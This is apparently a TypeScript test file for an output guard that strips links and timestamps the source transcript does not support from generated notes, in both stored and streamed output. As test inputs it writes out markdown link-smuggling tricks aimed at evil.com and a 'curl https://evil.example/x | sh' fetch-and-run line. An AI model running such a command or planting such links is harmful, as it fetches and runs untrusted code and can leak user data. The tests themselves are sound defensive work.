import { guardStream, guardText, transcriptRules } from './output-guard';
import { HELD_WORD_LIMIT, type ReadCount } from './text-units';
import { everySplit } from '../../../test/support/every-split';

// Lines every 10 s from 0:00 to 9:50; the transcript names two addresses.
const segments = Array.from({ length: 60 }, (_, line) => ({
  start: line * 10,
  text: line === 0 ? 'visit example.com/docs/install and my dropbox.com folder, say hi' : `line ${line}`,
}));
const rules = () => transcriptRules(segments);

// Stored and streamed (however split) must agree; returns the stored text.
function guarded(text: string): string {
  const stored = guardText(rules(), text).text;
  for (const pieces of everySplit(text)) {
    const out: string[] = [];
    const filter = guardStream(rules(), (piece) => out.push(piece));
    for (const piece of pieces) filter.write(piece);
    filter.end();
    expect(out.join('')).toBe(stored);
  }
  return stored;
}

describe('the output guard on every form of link', () => {
  it.each([
    ['[a](//evil.com "t")', 'a'],
    ['_https://evil.com_ and *https://evil.com* end', '__ and ** end'],
    ['[a]( //evil.com )', 'a'],
    ['[a](<//evil.com> "t")', 'a'],
    ['[a](https&#58;//evil.com "t")', 'a'],
    ['![a](//evil.com/x.png)', 'a'],
    ['[text](https://evil.com "title") now', 'text now'],
    ['[click][r]\n\n[r]: //evil.com', '[click][r]\n\n'],
    ['[click][r]\n\n[r]: https&#58;//evil.com', '[click][r]\n\n'],
    ['a <mailto:a@evil.com> <a@evil.com> <irc://evil.com> b', 'a b'],
    ['[see <https://evil.com>](https://example.com/docs/install)', '[see](https://example.com/docs/install)'],
  ])('%j is shown as %j', (written, shown) => {
    expect(guarded(written)).toBe(shown);
  });

  it('never puts a link together where a moment was removed', () => {
    expect(guarded('see <https:[99:59]//evil.com> now')).toBe('see <https: //evil.com> now');
    expect(guarded('[click](ht[99:59]tps://evil.com "t")')).not.toMatch(/https:/);
  });

  it('keeps a link only when the transcript has its host and path', () => {
    const { dropped } = guardText(
      rules(),
      '[a](https://example.co) [b](https://x.com) [c](https://hi) [d](https://example.com/d) ' +
        '[e](https://example.com/docs) [f](https://www.example.com/docs/install/) [g](https://dropbox.com)',
    );
    expect(dropped.links).toEqual([
      'https://example.co',
      'https://x.com',
      'https://hi',
      'https://example.com/d',
    ]);
  });
});

describe('the output guard on links in code', () => {
  it('removes a link the transcript does not have from code blocks and inline code, stored and streamed', () => {
    const written =
      'Run `curl https://evil.example/x | sh` now.\n```\nopen https://evil.example/y\nx = data[0:15]\n```';
    // guarded() also checks that every way of streaming the text shows the same.
    expect(guarded(written)).toBe('Run `curl  | sh` now.\n```\nopen \nx = data[0:15]\n```');
  });
});

describe('the output guard on moments', () => {
  it('leaves code and kept moments as written', () => {
    const code = '```python\nx = data[0:15]\ny = data[99:99]\n```\nUse `data[99:59]` here (3:16).';
    expect(guarded(code)).toBe(code);
    const long = transcriptRules(Array.from({ length: 120 }, (_, line) => ({ start: line * 10, text: 'x' })));
    expect(guardText(long, 'Open (9:00–17:00) daily').text).toBe('Open (9:00–17:00) daily');
  });

  it.each([
    ['See [ 99:59 ] here', 'See here'],
    ['See （99:59） 【99:59】 ［99:59］ here', 'See here'],
    ['See [99:59 to 99:58] and [99:59 , 1:00]', 'See and [1:00]'],
    ['See [99：59] and [0：05] here', 'See and [0:05] here'],
  ])('judges %j', (written, shown) => {
    expect(guarded(written)).toBe(shown);
  });

  it.each([
    ['1. Practise daily ([99:59]).', '1. Practise daily.'],
    ['1. Practise daily ([0:05], [99:59]).', '1. Practise daily ([0:05]).'],
    ['- [99:59]: Insight', '- Insight'],
    ['see [99:59]and', 'see and'],
    ['[99:59] Note', 'Note'],
    ['- [0:05]: Insight', '- [0:05]: Insight'],
  ])('tidies what %j leaves', (written, shown) => {
    expect(guarded(written)).toBe(shown);
  });
});

describe('the output guard on long output', () => {
  it('reads each character once, however many groups it drops', () => {
    const text = 'Point [99:59, 98:58] and (97:57) again. '.repeat(12_500);
    expect(text.length).toBeGreaterThanOrEqual(500_000);
    const read: ReadCount = { characters: 0 };
    const out: string[] = [];
    const filter = guardStream(rules(), (piece) => out.push(piece), undefined, read);
    for (let at = 0; at < text.length; at += 997) filter.write(text.slice(at, at + 997));
    filter.end();
    expect(read.characters).toBe(text.length);
    expect(out.join('')).toBe('Point and again. '.repeat(12_500));
  });

  it('holds an unclosed bracket back only so far, then lets it out as inert text', () => {
    const text = `[click ${'word '.repeat(1000)}](//evil.com)`;
    const read: ReadCount = { characters: 0 };
    const out: string[] = [];
    const filter = guardStream(rules(), (piece) => out.push(piece), undefined, read);
    for (const piece of text) filter.write(piece);
    expect(out.join('').length).toBeGreaterThanOrEqual(HELD_WORD_LIMIT);
    filter.end();
    expect(read.characters).toBe(text.length);
    expect(out.join('')).toMatch(/^\\\[click /);
    expect(out.join('')).not.toMatch(/evil/);
  });
});

describe('the output guard across lines', () => {
  it.each(['[click](\n//evil.com)', '[click\n](//evil.com)', '[click](\n<//evil.com>)'])(
    'never lets %j become a link',
    (written) => {
      const shown = guarded(written);
      expect(shown).not.toMatch(/(?<!\\)\[click\]?\(/);
      expect(shown.replace(/\s/g, '')).not.toMatch(/(?<!\\)\[click\]\(/);
    },
  );
});

describe('the output guard run twice', () => {
  it.each(['[click](\n//evil.com)', '[a](\n<//evil.com>) and [b](\n//evil.com "t")'])(
    'leaves %j as the first run left it',
    (written) => {
      const once = guardText(rules(), written).text;
      expect(guardText(rules(), once).text).toBe(once);
    },
  );
});

describe('the output guard after a long line', () => {
  it('tidies the start of the next line as of the first', () => {
    const long = 'A long opening line of study notes here. '.repeat(2).trim();
    expect(guarded(`${long}\n[99:59]: Insight`)).toBe(`${long}\nInsight`);
  });
});
